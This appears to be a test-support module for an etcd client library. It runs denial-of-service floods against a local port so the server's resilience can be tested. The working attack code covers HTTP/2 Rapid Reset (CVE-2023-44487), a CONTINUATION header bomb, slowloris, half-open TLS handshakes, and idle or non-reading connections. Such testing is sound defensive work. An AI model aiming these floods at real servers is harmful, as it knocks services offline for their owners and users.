"""Attackers as processes of their own: what a host that means harm may do to a port, as fast or as long as it likes.

python -m tests.support.floods KIND PORT COUNT    says `ready` when it is in place; goes on until it is ended
"""

from __future__ import annotations

import asyncio
import os
import resource
import socket
import ssl
import sys
import time
from contextlib import suppress
from itertools import count
from typing import TYPE_CHECKING

import hpack

from etcdpy.proto import rpc_pb2
from etcdpy.transport import frames
from etcdpy.transport.frames import PREFACE, frame
from tests.support.wire import headers, message

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

NICENESS = 10
"""An attacker's own work is done on other hosts; here it must not take the processors from those it attacks."""
WATCHED_PREFIX = b"flood/"
TURN_SECONDS = 0.05
_GREETING = PREFACE + frames.settings({})
_RANGE = "/etcdserverpb.KV/Range"
_WATCH = "/etcdserverpb.Watch/Watch"


def hold(port: int, number: int, first: bytes, *, receive_bytes: int = 0) -> list[socket.socket]:
    """So many connections that send `first` and then nothing."""
    opened = []
    for _ in range(number):
        sock = socket.socket()
        if receive_bytes:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        sock.connect(("127.0.0.1", port))
        sock.sendall(first)
        opened.append(sock)
    return opened


def idle(port: int, number: int) -> None:
    """HTTP/2 connections that have greeted and want nothing."""
    opened = hold(port, number, _GREETING)
    ready()
    while opened:
        time.sleep(1)


def slow_readers(port: int, number: int) -> None:
    """Watches of everything under a prefix by clients that never read."""
    request = rpc_pb2.WatchRequest(
        create_request=rpc_pb2.WatchCreateRequest(key=WATCHED_PREFIX, range_end=WATCHED_PREFIX[:-1] + b"0")
    )
    block = hpack.Encoder().encode(headers(path=_WATCH))
    data = frame(frames.HEADERS, frames.FLAG_END_HEADERS, 1, block)
    data += frame(frames.DATA, 0, 1, message(request.SerializeToString()))
    opened = hold(port, number, _GREETING + data, receive_bytes=4096)
    ready()
    while opened:
        time.sleep(1)


def again_and_again(port: int, parts: Callable[[], bytes]) -> None:
    """One connection after the other, each sent as much as it takes."""
    said = False
    while True:
        with socket.socket() as sock, suppress(OSError):
            sock.connect(("127.0.0.1", port))
            sock.sendall(_GREETING)
            sock.settimeout(5)
            for _ in range(1000):
                sock.sendall(parts())
                if not said:
                    said = True
                    ready()


def rapid_reset(port: int, _number: int) -> None:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    block = hpack.Encoder().encode(headers(path=_RANGE))
    streams = count(1, 2)

    def pairs() -> bytes:
        some = [next(streams) for _ in range(200)]
        made = [
            frame(frames.HEADERS, frames.FLAG_END_HEADERS, each, block) + frames.rst_stream(each, 8) for each in some
        ]
        return b"".join(made)

    again_and_again(port, pairs)


def header_bomb(port: int, _number: int) -> None:
    """Small blocks that say much: a large field of the table, named again and again, over CONTINUATION frames."""
    streams = count(1, 2)

    def bombs() -> bytes:
        stream = next(streams)
        encoder = hpack.Encoder()
        block = encoder.encode(headers(path=_RANGE)) + encoder.encode([("bomb", "v" * 3000)]) + b"\xbe" * 30_000
        first, *rest = (block[at : at + 8000] for at in range(0, len(block), 8000))
        made = [frame(frames.HEADERS, 0, stream, first)]
        made += [frame(frames.CONTINUATION, 0, stream, part) for part in rest]
        return b"".join([*made, frame(frames.CONTINUATION, frames.FLAG_END_HEADERS, stream, b"")])

    again_and_again(port, bombs)


def slowloris(port: int, number: int) -> None:
    """HTTP/1.1 heads that come a byte a second; a connection that is dropped is opened anew."""
    asyncio.run(_keep(number, lambda: _drip(port)))


async def _drip(port: int) -> None:
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(b"GET /health HTTP/1.1\r\nhost: a\r\nx: ")
        while True:
            writer.write(b"y")
            await writer.drain()
            await asyncio.sleep(1)
    finally:
        writer.close()


def half_handshakes(port: int, number: int) -> None:
    """TLS handshakes that stop after the client's first message; one that is dropped is begun anew."""
    asyncio.run(_keep(number, lambda: _greet_tls(port)))


async def _greet_tls(port: int) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(outgoing.read())
        while await reader.read(1 << 16):
            pass
    finally:
        writer.close()


async def _keep(number: int, work: Callable[[], Awaitable[None]]) -> None:
    async def forever() -> None:
        while True:
            with suppress(OSError):
                await work()
            await asyncio.sleep(TURN_SECONDS)

    async with asyncio.TaskGroup() as tasks:
        for each in range(number):
            tasks.create_task(forever())
            if each % 50 == 0:
                await asyncio.sleep(0.02)
        await asyncio.sleep(TURN_SECONDS)
        ready()


def ready() -> None:
    print("ready", flush=True)


KINDS: dict[str, Callable[[int, int], None]] = {
    "idle": idle,
    "slow-readers": slow_readers,
    "rapid-reset": rapid_reset,
    "header-bomb": header_bomb,
    "slowloris": slowloris,
    "half-handshakes": half_handshakes,
}


if __name__ == "__main__":
    os.setpriority(os.PRIO_PROCESS, 0, NICENESS)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    KINDS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3]))
